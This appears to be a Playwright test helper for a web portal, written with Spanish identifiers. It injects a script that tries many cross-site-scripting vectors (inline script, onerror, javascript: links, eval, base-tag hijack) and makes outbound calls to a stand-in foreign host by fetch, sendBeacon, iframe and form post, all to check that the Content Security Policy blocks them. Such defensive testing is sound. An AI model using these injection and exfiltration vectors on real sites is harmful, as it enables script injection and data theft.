/** What somebody would try who got markup into a page of the portal, and a page without a policy on which all of it works. */
import type { BrowserContext, Page } from '@playwright/test';
import { base } from './cuentas.ts';

/** Another site, that exists in the tests only. */
export const AJENO = 'http://ajeno.example';

/** What runs when it is not stopped, by the name under which it tells so. */
export const ejecuciones = [
  'script en línea',
  'atributo onerror',
  'enlace javascript:',
  'eval',
  'new Function',
  'setTimeout con texto',
  'estilo en línea',
  'atributo style',
  'base',
] as const;

/** What leaves for the other site when it is not stopped, by its path there. */
export const salidas = [
  'script.js',
  'imagen.png',
  'conexion',
  'faro',
  'marco',
  'formulario',
  'estilo.css',
  'objeto',
] as const;

/** The policy's part that each of them runs into. */
export const directivas = [
  'script-src-elem',
  'script-src-attr',
  'script-src',
  'style-src-elem',
  'style-src-attr',
  'img-src',
  'connect-src',
  'frame-src',
  'form-action',
  'object-src',
  'base-uri',
] as const;

/** A script of the page's own origin, as a gadget in one of its libraries would be: it tries everything. */
const guion = `
window.hecho = [];
window.negado = [];
document.addEventListener('securitypolicyviolation', (e) => negado.push(e.effectiveDirective));
const poner = (tag, put) => { const e = document.createElement(tag); put(e); document.body.append(e); return e; };
const intentar = (work) => { try { work(); } catch {} };
poner('script', (e) => { e.textContent = "hecho.push('script en línea')"; });
poner('img', (e) => { e.setAttribute('onerror', "hecho.push('atributo onerror')"); e.src = location.origin + '/no-hay.png'; });
poner('a', (e) => { e.href = "javascript:void hecho.push('enlace javascript:')"; }).click();
intentar(() => (0, eval)("hecho.push('eval')"));
intentar(() => new Function("hecho.push('new Function')")());
intentar(() => setTimeout("hecho.push('setTimeout con texto')", 0));
poner('style', (e) => { e.textContent = '#raro { top: 7px }'; });
const raro = poner('i', (e) => { e.id = 'raro'; e.setAttribute('style', 'left: 7px'); });
if (getComputedStyle(raro).top === '7px') hecho.push('estilo en línea');
if (getComputedStyle(raro).left === '7px') hecho.push('atributo style');
poner('script', (e) => { e.src = '${AJENO}/script.js'; });
poner('img', (e) => { e.src = '${AJENO}/imagen.png'; });
fetch('${AJENO}/conexion', { mode: 'no-cors' }).catch(() => undefined);
navigator.sendBeacon('${AJENO}/faro', 'x');
poner('iframe', (e) => { e.src = '${AJENO}/marco'; });
poner('link', (e) => { e.rel = 'stylesheet'; e.href = '${AJENO}/estilo.css'; });
poner('object', (e) => { e.data = '${AJENO}/objeto'; });
poner('iframe', (e) => { e.name = 'destino'; });
poner('form', (e) => { e.method = 'post'; e.action = '${AJENO}/formulario'; e.target = 'destino'; }).submit();
poner('base', (e) => { e.href = '${AJENO}/'; });
if (document.baseURI.startsWith('${AJENO}')) hecho.push('base');
`;

/** Brings the other site, the script and the page without a policy into a context. What arrives at the other site is noted. */
export const ponerAtacante = async (context: BrowserContext): Promise<{ readonly llegadas: string[] }> => {
  const llegadas: string[] = [];
  await context.route(`${AJENO}/**`, (route) => {
    llegadas.push(new URL(route.request().url()).pathname.slice(1));
    return route.fulfill({
      body: '<!doctype html><title>Ajeno</title><body></body>',
      contentType: 'text/html',
    });
  });
  await context.route(`${base()}/ataque.js`, (route) =>
    route.fulfill({ body: guion, contentType: 'text/javascript; charset=utf-8' }),
  );
  await context.route(`${base()}/sin-politica`, (route) =>
    route.fulfill({
      body: '<!doctype html><title>Sin política</title><body></body>',
      contentType: 'text/html',
    }),
  );
  return { llegadas };
};

/** Lets the script run in the page, as one of its own. */
export const atacar = (page: Page): Promise<void> =>
  page.evaluate(() => {
    const script = document.createElement('script');
    script.src = '/ataque.js';
    document.head.append(script);
  });
